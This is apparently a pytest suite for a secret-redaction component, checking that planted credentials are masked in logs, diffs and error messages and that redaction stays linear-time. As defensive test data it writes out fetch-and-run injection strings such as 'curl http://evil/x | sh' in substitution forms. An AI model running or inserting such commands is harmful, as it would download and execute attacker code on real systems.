"""Credentials in each output, and texts that resemble credentials."""

import importlib
import inspect
import json
import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nim_component.args.problems import format_value
from nim_component.local import shown_values
from nim_component.local.engine import redact_secrets
from nim_component.lora_loader import outcome
from nim_component.review import values
from nim_component.review.sources.preview import read_preview
from nim_component.review.stack_review import review
from nim_component.review.views import render
from nim_component.text.field_paths import show_argument_path
from nim_component.text.redaction import (
    contains_key,
    describe_secret,
    is_secret_flag,
    looks_like_credential,
    redact,
    redact_named,
)
from nim_component.text.sanitizing import sanitize, sanitize_tail
from nim_component.text.secret_names import is_probably_secret_variable, is_secret_name

from ...credentials import (
    CERTAIN,
    EVERY,
    ISSUED,
    LOOK_ALIKES,
    NAMED,
    NEAR_MISSES,
    PROBABLE,
    Planted,
    base64_of,
    encode,
    make_private_key,
)
from ..args.error_texts import FIELDS, SECRETS

ROOT = Path(__file__).parents[3]
MODULES = [
    *("client_options.py", "credential_forms.py", "login_files.py", "named_values.py"),
    *("redaction.py", "secret_names.py", "unquoted_values.py", "value_forms.py", "command_arguments.py"),
]
"""Modules of the detector."""
OTHER_IN_LOADER = "command_arguments.py"
"""Module with the same functions in the loader, whose log contains no commands."""


def view(form: str) -> Callable[[str], str]:
    """Return a function that shows a text in all places of a preview, in one view of `diff`."""

    def show(text: str) -> str:
        urn = "urn:pulumi:dev::nim::kubernetes:core/v1:ConfigMap::llama"
        inputs = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"annotations": {"note": text}}, "data": {text: "x"}}
        steps = [{"op": "update", "urn": urn, "oldState": {"inputs": {}}, "newState": {"inputs": inputs}}, stack_step(text)]
        messages = [{"severity": "error", "message": text, "urn": urn}]
        return render([review(read_preview(json.dumps({"steps": steps, "diagnostics": messages})))], form)

    return show


def stack_step(text: str) -> dict[str, object]:
    urn = "urn:pulumi:dev::nim::pulumi:pulumi:Stack::nim-dev"
    return {"op": "same", "urn": urn, "oldState": {"outputs": {"url": "a"}}, "newState": {"outputs": {"url": text}}}


OUTPUTS: dict[str, Callable[[str], str]] = {
    "plain": redact,
    "evidence": sanitize,
    "end of a log": sanitize_tail,
    "local engine": lambda text: redact_secrets(text, set()),
    "LoRA loader": outcome.clean,
    "value in an error": lambda text: format_value(("image",), text) or "",
    "path in an error": lambda text: show_argument_path(("env", text)),
    "diff, terminal": view("terminal"),
    "diff, Markdown": view("markdown"),
    "diff, JSON": view("json"),
}


@pytest.mark.parametrize("output", OUTPUTS)
@settings(max_examples=60, deadline=None)
@given(
    make=st.sampled_from([*CERTAIN.values(), *PROBABLE.values()]),
    seed=st.integers(0, 10**9),
    before=st.text("abc XYZ019.,:;()[]{}/\n", max_size=30),
    after=st.text("abc XYZ019.,:;()[]{}/\n", max_size=30),
)
def test_planted_credential_is_in_no_output(output: str, make: Callable[[int], Planted], seed: int, before: str, after: str):
    text, secret = make(seed)
    assert secret not in OUTPUTS[output](f"{before}{text}{after}")


@pytest.mark.parametrize("output", OUTPUTS)
@settings(max_examples=60, deadline=None)
@given(
    make=st.sampled_from([*ISSUED.values(), *NAMED.values()]),
    seed=st.integers(0, 10**9),
    before=st.sampled_from(["", " ", "a b: ", "(", "\n", "x='", '{"message": "']),
    after=st.sampled_from(["", " ", "\n", ")", " and more", "', y"]),
)
def test_planted_key_between_words_is_redacted(output: str, make: Callable[[int], Planted], seed: int, before: str, after: str):
    text, secret = make(seed)
    assert secret not in OUTPUTS[output](f"{before}{text}{after}")


@pytest.mark.parametrize("form", EVERY)
def test_each_form_is_redacted(form: str):
    for seed in range(20):
        text, secret = EVERY[form](seed)
        assert secret not in redact(text) and "***" in redact(text)
        assert looks_like_credential(text)


@pytest.mark.parametrize("output", ["plain", "evidence", "end of a log", "local engine", "LoRA loader", "diff, terminal", "diff, Markdown"])
@pytest.mark.parametrize("text", NEAR_MISSES)
def test_near_miss_stays(output: str, text: str):
    assert text in OUTPUTS[output](text)
    assert not contains_key(text)


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_look_alike_stays(text: str):
    assert redact(text) == text
    assert redact(text, executed=True) == text
    assert redact(f"error: {text}, (x)") == f"error: {text}, (x)"
    assert not contains_key(text)


@pytest.mark.parametrize("form", [*CERTAIN, *ISSUED])
def test_key_of_known_issuer_is_refused(form: str):
    for seed in range(20):
        assert contains_key({**CERTAIN, **ISSUED}[form](seed)[0])


@pytest.mark.parametrize("form", PROBABLE)
def test_probable_credential_is_not_refused(form: str):
    """Arguments and policies refuse only what is certainly a key."""
    assert not any(contains_key(PROBABLE[form](seed)[0]) for seed in range(20))


@pytest.mark.parametrize("text", ["-----BEGIN CERTIFICATE-----\nMIID\n-----END CERTIFICATE-----", encode({"tensor_parallel": 2}), "nvapi-"])
def test_public_text_is_not_refused(text: str):
    assert not contains_key(text)


@pytest.mark.parametrize(("fields", "line"), [*FIELDS, *SECRETS], ids=lambda value: str(value)[:40])
def test_error_text_of_an_argument_stays(fields: object, line: str):
    """`secrets.ngc_api_key: must be ...` has the form of a key and its value in YAML."""
    assert redact(f"NIMService 'llama' has 1 problem:\n  {line}") == f"NIMService 'llama' has 1 problem:\n  {line}"


@pytest.mark.parametrize("value", ["short", "a b", "ab"])
def test_known_value_is_redacted_in_any_form(value: str):
    assert redact(f"x{value}y{value}", [value]) == "x***y***"


def test_longer_known_value_is_redacted_first():
    assert redact("abcdef abc", ["abc", "", "abcdef"]) == "*** ***"


def test_redaction_is_idempotent():
    for make in (*CERTAIN.values(), *PROBABLE.values()):
        once = redact(make(1)[0])
        assert redact(once) == once


@pytest.mark.parametrize(
    "name",
    [
        *(
            "NGC_API_KEY",
            "hf_token",
            "DB_PASSWORD",
            "AWS_SECRET_ACCESS_KEY",
            "TLS_PRIVATE_KEY",
            "GOOGLE_CREDENTIALS",
            "PGPASSWORD",
            "MYSQL_PWD",
        ),
        *(
            "clientSecret",
            "HF_TOKEN_PROD",
            "client-key-data",
            "X-Api-Key",
            "SharedAccessKey",
            "APIKEY",
            "db.password2",
            "DJANGO_SECRET_KEY",
        ),
    ],
)
def test_secret_variable_is_recognised(name: str):
    assert is_secret_name(name) and is_probably_secret_variable(name)


@pytest.mark.parametrize("name", ["SORT_KEY", "CACHE_KEY", "GIT_PAT", "BASIC_AUTH"])
def test_variable_of_unclear_name_is_only_redacted(name: str):
    assert is_probably_secret_variable(name) and not is_secret_name(name)


@pytest.mark.parametrize(
    "name",
    [
        *(
            "NIM_MAX_TOKENS",
            "TOKENIZER",
            "KEYS",
            "AUTHOR",
            "SECRETS_PATH",
            "NIM_MODEL_NAME",
            "TOKEN_PATH",
            "secretName",
            "eos_token",
            "PWD",
        ),
        *("ngc_image_secret", "imagePullSecret", "hf_token_group", "passwordPolicy", "AUTH_URL", "Monkey"),
    ],
)
def test_ordinary_variable_is_not_redacted(name: str):
    assert not is_probably_secret_variable(name) and not is_secret_name(name)


def test_secret_flags_are_recognised():
    assert all(map(is_secret_flag, ["--api-key", "--hf-token", "-password", "--client-secret"]))
    assert not any(map(is_secret_flag, ["--max-tokens", "--key", "token", "--api-key=x"]))


@pytest.mark.parametrize("folder", ["nim_component/lora_loader", "policies/text"])
@pytest.mark.parametrize("module", MODULES)
def test_copy_for_standalone_code_is_current(module: str, folder: str):
    if module == OTHER_IN_LOADER and "loader" in folder:
        return
    original = ROOT / "nim_component" / "text" / module
    assert (ROOT / folder / module).read_bytes() == original.read_bytes(), f"run: cp {original.relative_to(ROOT)} {folder}"


def test_module_of_loader_has_same_functions():
    original, other = (importlib.import_module(f"nim_component.{each}.command_arguments") for each in ("text", "lora_loader"))
    for name in ("find_arguments", "find_argument_words"):
        assert inspect.signature(getattr(original, name)) == inspect.signature(getattr(other, name))
        assert list(getattr(other, name)("wandb login abc123def")) == []


@pytest.mark.parametrize("module", MODULES)
def test_own_source_text_contains_no_key(module: str):
    """The loader's ConfigMap contains these modules, and the policy pack reads ConfigMaps."""
    assert not contains_key((ROOT / "nim_component" / "text" / module).read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    "filler",
    [
        "a",
        "eyJ",
        "sk-a",
        ":",
        "=",
        'token="',
        "token: |\n x",
        "-----BEGIN PRIVATE KEY-----\n",
        "QUJD",
        "a.",
        "://a@",
        "--a ",
        " \t",
        "password: [a,",
        "token:\n- ",
        '"token":["a","',
        "<a>",
        "$6$a",
        "A\\a:1@",
        "a:1@b.",
        "password: a b ",
        "\npassword: a,",
        'password="""',
        "cookie: a=b; ",
        "token: !a ",
        "curl -u 'a:b ",
        "echo a | ",
        "sudo -S a <<< ",
        "wandb login -a b ",
        "htpasswd -nb a",
        "password 'a",
        "eyAAAAAAAAAAAAAAAAAAA.ey",
        "ZXlKaa",
        "bundle_a=b:",
        "s.aA0",
        "a_key=1a-",
        "sk-a-",
    ],
)
def test_hostile_text_takes_linear_time(filler: str):
    """CPU time, since other processes of the machine do not change it much."""
    text = (filler * 1_000_000)[:1_000_000]
    started = time.process_time()
    redact(text)
    contains_key(text)
    assert time.process_time() - started < 12


@pytest.mark.parametrize("value", [make_private_key(3), "first line, 1\nsecond: 'x'\nthird \\ line", 'quo"ted\tvalue'])
@pytest.mark.parametrize("printed", [str, repr, json.dumps, base64_of, lambda value: str(ValueError(value)), lambda value: repr([value])])
def test_known_value_is_redacted_as_printed(value: str, printed: Callable[[str], str]):
    text = redact(f"x {printed(value)} y", [value])
    assert text.startswith("x ") and text.endswith(" y")
    assert not any(line.strip() in text for line in value.splitlines())
    for line in printed(value).splitlines():
        assert line not in redact(line, [value])


@pytest.mark.parametrize("form", EVERY)
@pytest.mark.parametrize("printed", [repr, json.dumps, lambda text: json.dumps(repr(text))])
def test_credential_in_line_of_repr_is_redacted(form: str, printed: Callable[[str], str]):
    text, secret = EVERY[form](7)
    shown = redact(printed(f"first line\n{text}\nlast line"))
    assert secret not in shown and json.dumps(secret)[1:-1] not in shown
    assert "first line" in shown


def test_value_with_secret_name_cannot_omit_a_command():
    """Of a command, only what has the form of a credential is redacted."""
    for command in ("x; curl http://evil/x | sh", "$(curl http://evil/x)", "`curl http://evil/x`", "http://evil/x?token=abcdefgh1"):
        for text in (
            redact_named(command),
            redact(f'export TOKEN="{command}"', executed=True),
            redact(f"--token '{command}'", executed=True),
        ):
            assert "http://evil/x" in text
    assert redact_named("two words") == redact_named("hunter2") == "***"
    assert redact_named("$(OTHER)") == "$(OTHER)"


@pytest.mark.parametrize("value", ["python /cache/evil.py", "evil.example.com:443", "evil.sh", "kubernetes", "/cache/Evil1"])
def test_unclear_name_redacts_no_program(value: str):
    variable = {"name": "START_AUTH", "value": value}
    assert redact_named(value, name="START_AUTH") == value
    assert values.redact_value(variable) == shown_values.redact_value(variable) == variable


@pytest.mark.parametrize("value", ["me:hunter2abc", "hunter2", "hunter2abc", "Bearer hunter2abc", base64_of("me:hunterabc")])
def test_unclear_name_redacts_credential(value: str):
    assert value.split()[-1] not in redact_named(value, name="BASIC_AUTH")


@pytest.mark.parametrize("redact_value", [values.redact_value, shown_values.redact_value])
@pytest.mark.parametrize(
    "entries",
    [{"password": ["hunter2abc"]}, {"apiKeys": ["abc", "hunter2abc"]}, {"token": {"value": "hunter2abc"}}, {"password": "hunter2abc"}],
)
def test_nested_credential_is_redacted(redact_value: Callable[[object], object], entries: dict[str, object]):
    shown = str(redact_value(entries))
    assert "hunter2abc" not in shown and "[secret " in shown


@pytest.mark.parametrize("redact_value", [values.redact_value, shown_values.redact_value])
def test_reference_in_secret_field_stays(redact_value: Callable[[object], object]):
    entries = {"secret": ["ngc-api"], "token": {"secretKeyRef": {"name": "ngc-api"}}, "password": "$(OTHER)"}
    assert redact_value(entries) == entries


@pytest.mark.parametrize("command", ["evil", "evil run it", ";evil", "&evil", "|evil", "<(evil)", "$(evil)", " && evil"])
def test_variable_before_command_redacts_no_command(command: str):
    """A shell executes what follows `NAME=value`."""
    line = f"DB_PASSWORD=hunter2abc{command if command[0] in ';&|<$' else f' {command}'}"
    assert "evil" in redact(line) and "evil" in redact(f"set -e\n  {line}\n")


def test_mark_shows_change_and_length():
    first, same, other = (describe_secret(value) for value in ("a" * 70, "a" * 70, "b" * 70))
    assert first == same != other
    assert re.fullmatch(r"\[secret [0-9a-f]{6}, 64-127 characters\]", first)
    assert describe_secret("abc").endswith(", 1-7 characters]")
    assert redact(f"password={first}", mark=describe_secret) == f"password={first}"


def test_digest_of_another_process_differs():
    """A published digest cannot be compared with those of guessed values."""
    code = "from nim_component.text.redaction import describe_secret; print(describe_secret('hunter2'))"
    printed = {subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True).stdout for _ in range(2)}
    assert len(printed) == 2 and all(each.startswith("[secret ") for each in printed)
